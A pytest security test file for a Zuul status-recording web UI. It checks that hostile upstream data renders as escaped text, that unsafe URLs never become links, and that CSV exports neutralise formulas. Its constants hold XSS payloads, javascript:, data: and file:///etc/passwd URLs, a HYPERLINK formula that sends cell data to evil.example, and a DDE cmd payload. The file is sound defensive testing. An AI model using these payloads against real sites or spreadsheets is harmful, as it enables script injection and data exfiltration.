"""Upstream data written to attack the reader: it renders as text, never as code.

One status body carries script, markup, quotes and non-http URLs in every
string Zuul sends; it is recorded through the real store and every page that
can show it is searched for the raw payloads and for links that are not
http(s). The CSV export must not hand a spreadsheet a formula.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import orjson
import pytest
from markupsafe import escape

from recorder.db import make_engine, make_sessionmaker, session_scope
from recorder.settings import Settings, SourceSettings
from recorder.store import get_or_create_source, store_body

TAKEN_AT = datetime(2026, 1, 5, 12, 0, tzinfo=UTC)
SOURCE_URL = "https://zuul.example.org/api/tenant/demo/status"
MARKUP = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(2)>",
    "</title></textarea><script>alert(3)</script>",
    '" autofocus onfocus="alert(4)',
)
# Each is given to one job as its only URL; none may become a link.
UNSAFE_URLS = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(2)",
    "\tjavascript:alert(3)",
    "java\nscript:alert(4)",
    "data:text/html,<script>alert(5)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(7)",
    "VBScript:msgbox(8)",
    "file:///etc/passwd",
)
SAFE_URL = 'https://logs.example.org/build?id=1&x="><script>alert(10)</script>'
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)
SCHEMES = ("javascript", "data", "vbscript", "file")


def job(name: str, **fields) -> dict:
    return {"name": name, "voting": True} | fields


def hostile_status() -> bytes:
    """A status whose every string is a payload; one job per unsafe URL."""
    start_s = int(TAKEN_AT.timestamp()) - 300
    jobs = [
        job(f"evil-url-{index}", url=url, uuid=f"{index:032x}", start_time=start_s)
        for index, url in enumerate(UNSAFE_URLS)
    ]
    jobs += [
        job(f"evil-report-{index}", report_url=url, result="FAILURE")
        for index, url in enumerate(UNSAFE_URLS)
    ]
    jobs += [job(markup, result="SUCCESS", url=SAFE_URL) for markup in MARKUP]
    jobs += [
        job(
            formula,
            result=formula,
            uuid=f"f{index:031x}",
            start_time=start_s,
            end_time=start_s + 60,
        )
        for index, formula in enumerate(FORMULAS)
    ]
    item = {
        "id": "1001,1",
        "project": MARKUP[0],
        "url": "javascript:alert('change')",
        "ref": MARKUP[1],
        "owner": {"name": MARKUP[2], "username": MARKUP[3]},
        "live": True,
        "enqueue_time": (start_s - 60) * 1000,
        "failing_reasons": list(MARKUP),
        "jobs": jobs,
    }
    formula_item = {
        "id": "1002,1",
        "project": FORMULAS[0],
        "ref": FORMULAS[1],
        "live": True,
        "enqueue_time": (start_s - 60) * 1000,
        "jobs": [job(FORMULAS[2], result="SUCCESS", uuid="e" * 32)],
    }
    queue = {
        "name": MARKUP[4],
        "branch": FORMULAS[3],
        "heads": [[item], [formula_item]],
    }
    pipeline = {
        "name": MARKUP[0],
        "description": MARKUP[1],
        "change_queues": [queue],
    }
    formula_pipeline = {
        "name": FORMULAS[6],
        "change_queues": [{"name": "q", "heads": [[formula_item]]}],
    }
    return orjson.dumps(
        {
            "zuul_version": MARKUP[2],
            "message": MARKUP[3],
            "pipelines": [pipeline, formula_pipeline],
        }
    )


def store(url: str, body: bytes, taken_at: datetime) -> int:
    sessions = make_sessionmaker(make_engine(url, writer=True))
    web_root = SourceSettings(name="demo", url=SOURCE_URL).zuul_web_root
    with session_scope(sessions) as session:
        source = get_or_create_source(session, "demo", SOURCE_URL)
        snapshot_id = store_body(session, source, body, taken_at, web_root).snapshot_id
    sessions.kw["bind"].dispose()
    return snapshot_id


@pytest.fixture
def recorded(database_url):
    """The hostile status stored twice (changed a little), and a test client."""
    from webui import create_app

    first = store(database_url, hostile_status(), TAKEN_AT)
    second = store(
        database_url, hostile_status() + b" ", TAKEN_AT + timedelta(minutes=1)
    )
    app = create_app(Settings(database_url=database_url))
    yield app.test_client(), first, second
    app.extensions["zuul_status"].sessions.kw["bind"].dispose()


class Elements(HTMLParser):
    """Every tag with its attributes, and the text inside each link."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.link_texts: list[str] = []
        self._in_link = 0
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "a":
            self._in_link += 1
            self.link_texts.append("")

    def handle_endtag(self, tag):
        if tag == "a" and self._in_link:
            self._in_link -= 1

    def handle_data(self, data):
        if self._in_link:
            self.link_texts[-1] += data


def assert_nothing_runs(html: str, path: str) -> Elements:
    """No raw payload, no script but the app's, no handler, no odd scheme."""
    for payload in (*MARKUP, SAFE_URL):
        assert payload not in html, f"{path} shows {payload!r} unescaped"
    elements = Elements(html)
    for tag, attributes in elements.tags:
        handlers = [name for name in attributes if name.startswith("on")]
        assert not handlers, f"{path}: <{tag}> has {handlers}"
        if tag == "script":
            # The app's own code, or a JSON data island (which the raw payload
            # search above has checked for a closing tag).
            source = attributes.get("src") or ""
            is_data = attributes.get("type") == "application/json"
            assert source.startswith("/static/") or is_data, path
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            value = attributes.get(name)
            if value is None:
                continue
            scheme = urlsplit(value).scheme.lower()
            assert scheme in ("", "http", "https"), f"{path}: {name}={value!r}"
            squeezed = "".join(value.split()).lower()
            assert not squeezed.startswith(SCHEMES), f"{path}: {name}={value!r}"
    return elements


def html_pages(client, first: int, second: int) -> list[str]:
    """Every page that shows upstream data, as far as the app has them."""
    rules = {rule.endpoint for rule in client.application.url_map.iter_rules()}
    pages = ["/", f"/snapshots/{first}", f"/snapshots/{second}"]
    optional = {
        "history.at": ["/at/2026-01-05T12:00:30Z"],
        "history.compare": [f"/diff/{first}/{second}"],
        "history.change": ["/changes/1001,1", "/changes/1002,1"],
        "jobs.job_list": ["/jobs?range=all"],
        "jobs.job_page": [
            f"/jobs/{quote(MARKUP[0], safe='')}?range=all",
            f"/jobs/{quote(MARKUP[3], safe='')}?range=all",
            "/jobs/evil-url-0?range=all",
            "/jobs/evil-report-1?range=all",
        ],
    }
    for endpoint, paths in optional.items():
        if endpoint in rules:
            pages.extend(paths)
    return pages


def test_no_page_runs_or_links_anything_that_came_from_upstream(recorded):
    client, first, second = recorded
    for path in html_pages(client, first, second):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_nothing_runs(response.get_data(as_text=True), path)


def test_names_with_markup_are_shown_escaped_as_text(recorded):
    client, _, _ = recorded
    html = client.get("/").get_data(as_text=True)
    for markup in MARKUP:
        assert str(escape(markup)) in html, f"{markup!r} is not shown as text"


def test_jobs_with_unsafe_urls_are_shown_but_not_as_links(recorded):
    client, _, _ = recorded
    html = client.get("/").get_data(as_text=True)
    elements = assert_nothing_runs(html, "/")
    linked = "".join(elements.link_texts)
    for index in range(len(UNSAFE_URLS)):
        for name in (f"evil-url-{index}", f"evil-report-{index}"):
            assert name in html
            assert name not in linked, f"{name} is a link"
    safe_links = [a.get("href") for tag, a in elements.tags if tag == "a"]
    assert SAFE_URL in safe_links, "an http(s) job URL should stay a link"


def test_api_bodies_are_json_that_a_browser_will_not_sniff_as_html(recorded):
    client, first, _ = recorded
    paths = [f"/api/snapshots/{first}/raw", "/api/snapshots"]
    if "jobs.api_builds" in {
        r.endpoint for r in client.application.url_map.iter_rules()
    }:
        paths.append("/api/builds?range=all")
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.mimetype == "application/json", path
        assert response.headers["X-Content-Type-Options"] == "nosniff", path


def test_csv_cells_never_start_a_spreadsheet_formula(recorded):
    client, _, _ = recorded
    rules = {rule.rule for rule in client.application.url_map.iter_rules()}
    if "/export/builds.csv" not in rules:
        pytest.skip("/export/builds.csv does not exist yet (issue 5)")
    response = client.get("/export/builds.csv?range=all")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert {row["job"].lstrip("'") for row in rows} >= set(FORMULAS)

    numeric = {"duration_s", "wait_s"}
    for row in rows:
        for column, cell in row.items():
            if column in numeric or not cell:
                continue
            assert cell[0] not in "=+-@\t\r", f"{column} = {cell!r}"
    by_job = {row["job"]: row for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in by_job, f"{formula!r} is not behind an apostrophe"
